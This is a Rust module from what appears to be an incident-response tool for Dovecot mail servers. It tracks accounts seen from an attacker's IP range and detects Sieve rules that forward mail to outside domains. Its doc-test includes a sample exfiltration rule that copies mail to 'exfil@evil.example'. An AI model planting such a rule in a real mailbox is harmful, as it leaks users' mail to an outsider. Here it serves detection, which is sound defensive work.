//! Following the attacker: every account seen from the attacker's addresses, and the mail
//! rules left behind.
//!
//! - [`AddressRange`]: the attacker's addresses (`203.0.113.7`, `203.0.113.0/24`, `2001:db8::/32`),
//!   parsed once, at the edge.
//! - [`Pivot`] → [`PivotReport`]: who was seen from that range — live sessions on every
//!   configured Dovecot (`doveadm who`) and past logins in Dovecot's log files
//!   ([`read_auth_log`], rotated and gzip'd files included), within a time window. The
//!   [`Responder`](crate::incident::Responder) runs it (`sightings`, `plan_from`,
//!   `contain_from`).
//! - [`find_external_redirects`]: the Sieve commands of a script that send mail outside the
//!   configured local domains (`redirect`, `redirect :copy`, `notify :method "mailto:…"`);
//!   [`MailRule`] is what a report says of one script.
//!
//! This module reads and parses; it changes nothing. The incident layer decides what to
//! contain, kick or deactivate, and journals it.
//!
//! ```
//! use cadenas::investigate::{find_external_redirects, AddressRange};
//!
//! let range = AddressRange::parse("203.0.113.0/24")?;
//! assert!(range.contains("203.0.113.7".parse().unwrap()));
//!
//! let script = "require \"copy\";\nredirect :copy \"exfil@evil.example\";\n";
//! let found = find_external_redirects(script, &["example.test".to_owned()]);
//! assert_eq!(found[0].target, "exfil@evil.example");
//! # Ok::<(), cadenas::Error>(())
//! ```

mod authlog;
mod sieve;

use std::net::IpAddr;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};

pub(crate) use authlog::{for_each_line, timestamp as log_time};
pub(crate) use authlog::{parse_login, LoginLine};
pub use authlog::{read_auth_log, LogLogin};
pub use sieve::{find_external_redirects, Redirect};

use crate::error::{Error, ErrorKind};

/// A range of client addresses: one address or a CIDR network, IPv4 or IPv6.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct AddressRange(ipnet::IpNet);

impl AddressRange {
    /// Parses `203.0.113.7`, `203.0.113.0/24`, `2001:db8::1` or `2001:db8::/32`. Host bits set
    /// below the prefix (`203.0.113.7/24`) are refused: the range would not say what was meant.
    pub fn parse(text: &str) -> Result<Self, Error> {
        let bad = |why: &str| {
            Error::new(
                ErrorKind::InvalidInput,
                format!("{text:?} is not an address range: {why}"),
            )
        };
        let text = text.trim();
        if text.contains('/') {
            let net: ipnet::IpNet = text
                .parse()
                .map_err(|_| bad("expected ADDRESS or ADDRESS/PREFIX"))?;
            if net.trunc() != net {
                return Err(bad(&format!(
                    "host bits are set below the prefix (did you mean {}?)",
                    net.trunc()
                )));
            }
            Ok(Self(net))
        } else {
            let ip: IpAddr = text
                .parse()
                .map_err(|_| bad("expected ADDRESS or ADDRESS/PREFIX"))?;
            Ok(Self(ipnet::IpNet::from(ip)))
        }
    }

    /// Whether `ip` is in the range (an IPv4-mapped IPv6 address counts as its IPv4 address).
    pub fn contains(&self, ip: IpAddr) -> bool {
        let ip = match ip {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
            v4 => v4,
        };
        self.0.contains(&ip)
    }

    /// Whether the text is an address in the range (false for anything that is not an address).
    pub fn contains_text(&self, ip: &str) -> bool {
        ip.trim().parse().is_ok_and(|ip| self.contains(ip))
    }
}

impl std::fmt::Display for AddressRange {
    /// `ADDRESS/PREFIX` (what Dovecot's `who` and `kick` masks take).
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::str::FromStr for AddressRange {
    type Err = Error;
    fn from_str(s: &str) -> Result<Self, Error> {
        Self::parse(s)
    }
}

impl Serialize for AddressRange {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

impl<'de> Deserialize<'de> for AddressRange {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let s = String::deserialize(d)?;
        Self::parse(&s).map_err(|e| serde::de::Error::custom(e.message()))
    }
}

/// A point in time as Unix seconds (UTC), parsed from what an operator types.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Instant(i64);

impl Instant {
    /// Parses an RFC 3339 time (`2026-12-02T04:00:00Z`, `2026-12-02T05:00:00+01:00`), a date
    /// (`2026-12-02`, midnight UTC), or a time ago: `90m`, `36h`, `7d` (minutes, hours, days
    /// before now).
    pub fn parse(text: &str) -> Result<Self, Error> {
        let t = text.trim();
        let bad = || {
            Error::new(
                ErrorKind::InvalidInput,
                format!(
                    "{text:?} is not a time: use RFC 3339 (2026-12-02T04:00:00Z), a date (2026-12-02) \
                     or a time ago (90m, 36h, 7d)"
                ),
            )
        };
        if let Some((n, unit)) = t
            .char_indices()
            .last()
            .filter(|(_, c)| matches!(c, 'm' | 'h' | 'd'))
            .map(|(i, c)| (&t[..i], c))
        {
            if !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()) {
                let n: i64 = n.parse().map_err(|_| bad())?;
                let secs = match unit {
                    'm' => 60,
                    'h' => 3600,
                    _ => 86_400,
                };
                return n
                    .checked_mul(secs)
                    .map(|ago| Self(Self::now().0 - ago))
                    .ok_or_else(bad);
            }
        }
        use time::format_description::well_known::Rfc3339;
        if let Ok(dt) = time::OffsetDateTime::parse(t, &Rfc3339) {
            return Ok(Self(dt.unix_timestamp()));
        }
        let date = parse_date(t).ok_or_else(bad)?;
        Ok(Self(date.midnight().assume_utc().unix_timestamp()))
    }

    /// Now.
    pub fn now() -> Self {
        Self(time::OffsetDateTime::now_utc().unix_timestamp())
    }

    /// From Unix seconds.
    pub fn from_unix(secs: i64) -> Self {
        Self(secs)
    }

    /// Unix seconds.
    pub fn unix(self) -> i64 {
        self.0
    }

    /// RFC 3339 UTC (`2026-12-02T04:00:00Z`).
    pub fn rfc3339(self) -> String {
        crate::time::rfc3339(u64::try_from(self.0).unwrap_or(0))
    }
}

/// `YYYY-MM-DD`.
fn parse_date(t: &str) -> Option<time::Date> {
    let mut it = t.splitn(3, '-');
    let (y, m, d) = (it.next()?, it.next()?, it.next()?);
    if y.len() != 4 || m.len() != 2 || d.len() != 2 {
        return None;
    }
    let month = time::Month::try_from(m.parse::<u8>().ok()?).ok()?;
    time::Date::from_calendar_date(y.parse().ok()?, month, d.parse().ok()?).ok()
}

impl Serialize for Instant {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.rfc3339())
    }
}

impl<'de> Deserialize<'de> for Instant {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let s = String::deserialize(d)?;
        Self::parse(&s).map_err(|e| serde::de::Error::custom(e.message()))
    }
}

/// What to look for: the attacker's addresses, the log files to read, the time window.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct Pivot {
    /// The attacker's addresses.
    pub range: AddressRange,
    /// Dovecot log files to read for past logins (plain or gzip'd, found by content).
    pub auth_logs: Vec<PathBuf>,
    /// Postfix log files to read for SMTP AUTH (a message submitted after a login, failed
    /// logins); default `[postfix] log_files`.
    pub smtp_logs: Vec<PathBuf>,
    /// Logins before this are left out. Live sessions are always listed.
    pub since: Option<Instant>,
    /// Logins after this are left out.
    pub until: Option<Instant>,
}

impl Pivot {
    /// Live sessions from `range` only; add log files and a window with the fields.
    pub fn new(range: AddressRange) -> Self {
        Self {
            range,
            auth_logs: Vec::new(),
            smtp_logs: Vec::new(),
            since: None,
            until: None,
        }
    }

    /// Whether `t` (when known) is inside the window. A login whose time is unknown is kept.
    pub(crate) fn in_window(&self, t: Option<Instant>) -> bool {
        t.is_none_or(|t| self.since.is_none_or(|s| t >= s) && self.until.is_none_or(|u| t <= u))
    }
}

/// How an account was seen from the range.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum SightingKind {
    /// A live session (doveadm `who`).
    LiveSession,
    /// A successful login in a log file.
    LoggedIn,
    /// A failed login in a log file: the attacker tried the account (not contained for that alone).
    FailedLogin,
}

/// One account seen from the range, by one source.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Sighting {
    /// The login name the server saw.
    pub user: String,
    /// The client address.
    pub ip: String,
    /// Live session, login or failed login.
    pub kind: SightingKind,
    /// The service (`imap`, `pop3`, `managesieve`…).
    pub service: String,
    /// Where: the Dovecot's configured name, or the log file's path.
    pub source: String,
    /// How many sessions (live) or log lines.
    pub count: usize,
    /// The first log line's time (logs only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub first_seen: Option<Instant>,
    /// The last log line's time (logs only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_seen: Option<Instant>,
}

/// Who was seen from the range: the evidence, and the accounts it points to.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct PivotReport {
    /// The range looked for.
    pub range: AddressRange,
    /// The window for log lines.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub since: Option<Instant>,
    /// The window for log lines.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub until: Option<Instant>,
    /// Every sighting, grouped by user, source, kind, service and address.
    pub sightings: Vec<Sighting>,
    /// Accounts with a live session or a successful login from the range, in the order first
    /// seen: what `contain_from` contains.
    pub users: Vec<String>,
    /// Accounts only *tried* from the range (failed logins): listed, not contained.
    pub tried_only: Vec<String>,
    /// The sources read: each Dovecot's name and each log file's path, with what it gave.
    pub sources: Vec<String>,
}

impl PivotReport {
    /// Builds the report from every sighting: groups them and derives the account lists.
    pub(crate) fn from_sightings(pivot: &Pivot, mut all: Vec<Sighting>, sources: Vec<String>) -> Self {
        all.sort_by(|a, b| {
            (a.first_seen, &a.user, &a.source, a.kind).cmp(&(b.first_seen, &b.user, &b.source, b.kind))
        });
        let mut sightings: Vec<Sighting> = Vec::new();
        for s in all {
            match sightings.iter_mut().find(|g| {
                g.user == s.user
                    && g.kind == s.kind
                    && g.source == s.source
                    && g.service == s.service
                    && g.ip == s.ip
            }) {
                Some(g) => {
                    g.count += s.count;
                    g.first_seen = g.first_seen.min(s.first_seen).or(g.first_seen.or(s.first_seen));
                    g.last_seen = g.last_seen.max(s.last_seen);
                }
                None => sightings.push(s),
            }
        }
        let mut users: Vec<String> = Vec::new();
        let mut tried_only: Vec<String> = Vec::new();
        for s in &sightings {
            if s.kind != SightingKind::FailedLogin && !users.iter().any(|u| u.eq_ignore_ascii_case(&s.user)) {
                users.push(s.user.clone());
            }
        }
        for s in &sightings {
            if s.kind == SightingKind::FailedLogin
                && !users.iter().any(|u| u.eq_ignore_ascii_case(&s.user))
                && !tried_only.iter().any(|u| u.eq_ignore_ascii_case(&s.user))
            {
                tried_only.push(s.user.clone());
            }
        }
        Self {
            range: pivot.range,
            since: pivot.since,
            until: pivot.until,
            sightings,
            users,
            tried_only,
            sources,
        }
    }

    /// Why `user` is in [`users`](Self::users), in words (for a plan or a journal note).
    pub fn why(&self, user: &str) -> String {
        self.sightings
            .iter()
            .filter(|s| s.user.eq_ignore_ascii_case(user))
            .map(|s| {
                let when = match (s.first_seen, s.last_seen) {
                    (Some(a), Some(b)) if a != b => format!(" {} .. {}", a.rfc3339(), b.rfc3339()),
                    (Some(a), _) => format!(" {}", a.rfc3339()),
                    _ => String::new(),
                };
                let what = match s.kind {
                    SightingKind::LiveSession => "live session(s)",
                    SightingKind::LoggedIn => "login(s)",
                    SightingKind::FailedLogin => "failed login(s)",
                };
                format!(
                    "{} {what} {} from {} on {}{when}",
                    s.count, s.service, s.ip, s.source
                )
            })
            .collect::<Vec<_>>()
            .join("; ")
    }
}

/// `[mail]`: what the mail server may hold for the attacker.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
#[non_exhaustive]
pub struct MailConfig {
    /// The organisation's own mail domains: a redirect to any other domain is external.
    #[serde(default)]
    pub local_domains: Vec<String>,
    /// Deactivate the user's active Sieve script during `contain` when it sends mail outside
    /// the local domains (journaled with its name and content hash; `release` does not bring
    /// it back). Default false: such scripts are only reported.
    #[serde(default)]
    pub disable_external_redirects: bool,
    /// The Dovecot revokers (by name) whose doveadm API reads Sieve scripts; default every
    /// `type = "dovecot"` revoker.
    pub sieve_via: Option<Vec<String>>,
    /// Dovecot log files read for past logins when a pivot names none.
    #[serde(default)]
    pub auth_logs: Vec<PathBuf>,
}

impl MailConfig {
    pub(crate) fn resolve_paths(&mut self, base: &std::path::Path) {
        for p in &mut self.auth_logs {
            if p.is_relative() {
                *p = base.join(&*p);
            }
        }
    }

    pub(crate) fn check(&self) -> Result<(), Error> {
        if let Some(d) = self
            .local_domains
            .iter()
            .find(|d| d.is_empty() || d.contains(['@', ' ', '/']) || d.starts_with('.'))
        {
            return Err(Error::new(
                ErrorKind::Config,
                format!("[mail] local_domains: {d:?} is not a domain name"),
            ));
        }
        Ok(())
    }

    /// Whether the Dovecot revoker `name` reads Sieve scripts.
    pub fn reads_sieve_via(&self, name: &str) -> bool {
        self.sieve_via
            .as_ref()
            .is_none_or(|v| v.iter().any(|n| n == name))
    }
}

/// What a report says of one Sieve script that sends mail outside the local domains.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct MailRule {
    /// The Dovecot (revoker name) it was read through.
    pub server: String,
    /// The script's name.
    pub script: String,
    /// Whether it was the active script when read.
    pub active: bool,
    /// SHA-256 (hex) of the script's text, as read.
    pub sha256: String,
    /// The commands that send mail out, with their targets.
    pub redirects: Vec<Redirect>,
    /// Whether this run deactivated it.
    pub deactivated: bool,
}
